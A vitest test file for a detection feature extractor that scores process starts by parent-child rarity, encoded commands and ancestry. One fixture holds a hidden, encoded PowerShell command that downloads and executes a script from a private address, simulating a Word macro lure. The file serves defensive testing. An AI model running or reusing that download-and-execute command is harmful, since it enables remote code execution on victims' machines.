import { describe, expect, it } from 'vitest';
import type { Event } from '../../../common/events.js';
import { explainRow, FeatureBatch, FeatureExtractor, PROCESS_LAYOUT, PROCESS_WIDTH, rarityOf, REFS_PER_ROW, Ref } from '../../../models/features/index.js';
import { connect, exit, start, T0 } from './helpers.js';

const P = PROCESS_LAYOUT.index;
const SMALL = { sketch: { width: 1 << 14, depth: 4 } };
const EXPLORER = 'C:\\Windows\\explorer.exe';
const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const WINWORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const ENC = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAnACkA';

/** explorer.exe (pid 500) starts chrome.exe 100 times, then word (started by explorer) starts powershell -enc. */
function lureStream(): Event[] {
  const events: Event[] = [start({ image: EXPLORER, parentImage: 'C:\\Windows\\System32\\userinit.exe', pid: 500, timeMs: T0 - 3_600_000 })];
  for (let i = 0; i < 101; i++) events.push(start({ image: CHROME, parentImage: EXPLORER, parentPid: 500, parentStart: T0 - 3_600_000, timeMs: T0 + i * 1000, commandLine: `"${CHROME}" --type=renderer --field-trial-handle=${1000 + i}` }));
  events.push(start({ image: WINWORD, parentImage: EXPLORER, parentPid: 500, parentStart: T0 - 3_600_000, pid: 900, timeMs: T0 + 200_000, commandLine: `"${WINWORD}" /n "C:\\Users\\alice\\Downloads\\invoice.docm"` }));
  events.push(start({ image: POWERSHELL, parentImage: WINWORD, parentPid: 900, parentStart: T0 + 200_000, timeMs: T0 + 205_000, commandLine: `powershell.exe -nop -w hidden -enc ${ENC}`, originalFileName: 'PowerShell.EXE.MUI' }));
  return events;
}

function run(events: readonly Event[], perEvent = false) {
  const x = new FeatureExtractor(SMALL);
  const out = new FeatureBatch(16);
  if (perEvent) {
    const rows: number[][] = [];
    for (const e of events) {
      out.clear();
      x.extract('beaumont', 'ws1', [e], out);
      for (let r = 0; r < out.process.count; r++) rows.push(Array.from(out.process.row(r)));
    }
    return { x, rows };
  }
  x.extract('beaumont', 'ws1', events, out);
  return { x, out, rows: Array.from({ length: out.process.count }, (_, r) => Array.from(out.process.row(r))) };
}

describe('process rows', () => {
  it('one row per process start, in order, with its event index', () => {
    const events = [...lureStream(), exit(1, 0, T0)];
    const { out } = run(events);
    expect(out!.process.count).toBe(events.length - 1);
    expect(Array.from(out!.process.eventIndex.subarray(0, 3))).toEqual([0, 1, 2]);
    expect(out!.process.filled().length).toBe(out!.process.count * PROCESS_WIDTH);
  });

  it('winword.exe -> powershell.exe -enc is rarer than explorer.exe -> chrome.exe after 100 of those', () => {
    const { rows } = run(lureStream());
    const firstChrome = rows[1]!;
    const chrome = rows[101]!; // the 101st chrome start: its pair was seen 100 times before
    const ps = rows[rows.length - 1]!;
    expect(firstChrome[P.rare_pair_tenant]).toBe(1); // first seen is rare in its own row
    expect(chrome[P.rare_pair_tenant]).toBeCloseTo(rarityOf(100), 5);
    expect(ps[P.rare_pair_tenant]).toBe(1);
    expect(ps[P.rare_pair_fleet]).toBe(1);
    expect(ps[P.rare_pair_tenant]!).toBeGreaterThan(chrome[P.rare_pair_tenant]! + 0.5);
    expect(ps[P.cmd_encoded]).toBe(1);
    expect(ps[P.parent_document_app]).toBe(1);
    expect(ps[P.image_script_host]).toBe(1);
    expect(ps[P.image_renamed]).toBe(0); // PowerShell.EXE.MUI is powershell.exe
    expect(ps[P.cmd_base64_run]!).toBeGreaterThan(0.6);
    expect(ps[P.cmd_evasion_markers]).toBe(0.5); // -nop, hidden
    expect(chrome[P.cmd_encoded]).toBe(0);
    expect(chrome[P.image_program_dir]).toBe(1);
    // tokens: digits are folded, so --field-trial-handle=1100 is not new after 1000..1099
    expect(chrome[P.cmd_new_token_fraction]).toBe(0);
    expect(ps[P.cmd_new_token_fraction]).toBe(1);
  });

  it('ancestry: depth from the remembered tree, grandparent in the context', () => {
    const events = lureStream();
    const { x, rows } = run(events);
    const ps = rows[rows.length - 1]!;
    expect(ps[P.parent_unknown]).toBe(0);
    expect(ps[P.ancestry_depth]).toBeCloseTo(3 / 16); // explorer (1) -> winword (2) -> powershell (3)
    expect(rows[0]![P.parent_unknown]).toBe(1);
    const ctx = x.processContext('beaumont', 'ws1', events[events.length - 1]!);
    expect(ctx.grandparentImage).toBe('explorer.exe');
    expect(ctx.parentImage).toBe('winword.exe');
    expect(ctx.image).toBe('powershell.exe');
    expect(ctx.depth).toBe(3);
    expect(ctx.rarestToken).not.toBe('');
  });

  it('explains a high-contribution rarity feature naming the parent and the child', () => {
    const events = lureStream();
    const { x, rows } = run(events);
    const ps = rows[rows.length - 1]!;
    const contributions = new Float32Array(PROCESS_WIDTH);
    contributions[P.rare_pair_tenant] = 5;
    contributions[P.cmd_encoded] = 2;
    contributions[P.hour_sin] = 1; // nothing to say about it: skipped
    const ctx = x.processContext('beaumont', 'ws1', events[events.length - 1]!);
    const why = explainRow(PROCESS_LAYOUT, ps, contributions, ctx, 2);
    expect(why.map((w) => w.name)).toEqual(['rare_pair_tenant', 'cmd_encoded']);
    expect(why[0]!.text).toBe('parent winword.exe never seen starting powershell.exe in this tenant');
    expect(why[1]!.text).toBe('powershell.exe was given an encoded command');
    // a common pair has nothing to say
    expect(PROCESS_LAYOUT.features[P.rare_pair_tenant]!.explain(rows[101]![P.rare_pair_tenant]!, ctx)).toBeUndefined();
    // every feature explains a high value of the row without throwing
    for (const f of PROCESS_LAYOUT.features) expect(() => f.explain(1, ctx)).not.toThrow();
  });

  it('is deterministic, and a stream of single events gives the same rows as one batch', () => {
    const events = lureStream();
    const a = run(events).rows;
    const b = run(events).rows;
    const c = run(events, true).rows;
    expect(b).toEqual(a);
    expect(c).toEqual(a);
    for (const row of a) for (const v of row) expect(Number.isFinite(v)).toBe(true);
  });

  it('tenants have their own counters, the fleet shares one', () => {
    const x = new FeatureExtractor(SMALL);
    const out = new FeatureBatch(4);
    const ev = start({ image: POWERSHELL, parentImage: WINWORD });
    x.extract('beaumont', 'ws1', [ev], out);
    x.extract('saint-aubin', 'ws9', [start({ image: POWERSHELL, parentImage: WINWORD })], out);
    const second = out.process.row(1);
    expect(second[P.rare_pair_tenant]).toBe(1);
    expect(second[P.rare_pair_fleet]).toBeCloseTo(rarityOf(1), 5);
  });

  it('learn: false scores against frozen counters', () => {
    const x = new FeatureExtractor({ ...SMALL, learn: false });
    const out = new FeatureBatch(4);
    for (let i = 0; i < 3; i++) x.extract('t', 'h', [start({ image: CHROME, parentImage: EXPLORER })], out);
    expect(out.process.row(2)[P.rare_pair_tenant]).toBe(1);
  });

  it('bounds its lineage per host and its hosts', () => {
    const x = new FeatureExtractor({ ...SMALL, maxProcessesPerHost: 16, maxHosts: 2 });
    const out = new FeatureBatch(4);
    for (let i = 0; i < 40; i++) x.extract('t', `h${i % 3}`, [start({ image: CHROME, parentImage: EXPLORER })], out);
    const c = x.counters();
    expect(c.hosts).toBe(2);
    expect(c.evictedHosts).toBeGreaterThan(0);
    expect(out.process.count).toBe(40); // the buffer grew
    expect(c.sketchBytes).toBe((1 << 14) * 4 * 4);
  });
});

describe('process slots and serials beside the rows (for lineage)', () => {
  const refs = (rows: { refs: Float64Array }, r: number) => Array.from(rows.refs.subarray(r * REFS_PER_ROW + Ref.SLOT, (r + 1) * REFS_PER_ROW));

  it("a child's row names its parent's slot and serial; a window's row its process's; -1 for what is not remembered", () => {
    const x = new FeatureExtractor({ ...SMALL, windowMs: 60_000 });
    const out = new FeatureBatch(16);
    x.extract('beaumont', 'ws1', [
      start({ image: EXPLORER, parentImage: 'C:\\Windows\\System32\\userinit.exe', pid: 500, timeMs: T0 }),
      start({ image: POWERSHELL, parentImage: EXPLORER, parentPid: 500, parentStart: T0, pid: 600, timeMs: T0 + 1000 }),
      connect(600, T0 + 1000, T0 + 2000, '203.0.113.7'),
      connect(700, T0, T0 + 2000, '203.0.113.8'), // a process this extractor never saw start
    ], out);
    x.drain(out);
    const [explorerSlot, explorerSerial, unknownSlot, unknownSerial] = refs(out.process, 0);
    expect([unknownSlot, unknownSerial]).toEqual([-1, -1]);
    const [psSlot, psSerial, parentSlot, parentSerial] = refs(out.process, 1);
    expect([parentSlot, parentSerial]).toEqual([explorerSlot, explorerSerial]);
    expect(psSerial).toBeGreaterThan(explorerSerial!);
    expect(psSlot).not.toBe(explorerSlot);
    const windows = out.networkContexts.map((c, r) => ({ key: c.processKey, refs: refs(out.network, r) }));
    expect(windows).toEqual([
      { key: `600:${T0 + 1000}`, refs: [psSlot, psSerial, -1, -1] },
      { key: `700:${T0}`, refs: [-1, -1, -1, -1] },
    ]);
  });

  it("a forgotten process's slot is handed to a later one, with a new serial; slots stay as many as the processes remembered", () => {
    const x = new FeatureExtractor({ ...SMALL, maxProcessesPerHost: 16 });
    const out = new FeatureBatch(64);
    const events = Array.from({ length: 40 }, (_, i) => start({ image: EXPLORER, parentImage: EXPLORER, pid: 100 + i, timeMs: T0 + i }));
    x.extract('beaumont', 'ws1', events, out);
    const serials = Array.from({ length: 40 }, (_, r) => refs(out.process, r)[1]);
    expect(new Set(serials).size).toBe(40);
    const slots = Array.from({ length: 40 }, (_, r) => refs(out.process, r)[0]!);
    expect(Math.max(...slots)).toBeLessThanOrEqual(16); // 16 remembered, one more while the 17th arrives
    expect(x.slots.live).toBe(16);
    // the oldest is forgotten: a child of it has no parent slot
    out.clear();
    x.extract('beaumont', 'ws1', [start({ image: POWERSHELL, parentImage: EXPLORER, parentPid: 100, parentStart: T0, timeMs: T0 + 100 })], out);
    expect(refs(out.process, 0).slice(2)).toEqual([-1, -1]);
    // a host pushed out of the extractor gives its slots back
    const one = new FeatureExtractor({ ...SMALL, maxHosts: 1 });
    one.extract('beaumont', 'ws1', events.slice(0, 5), out);
    expect(one.slots.live).toBe(5);
    one.extract('beaumont', 'ws2', events.slice(0, 2), out);
    expect(one.slots.live).toBe(2);
  });
});
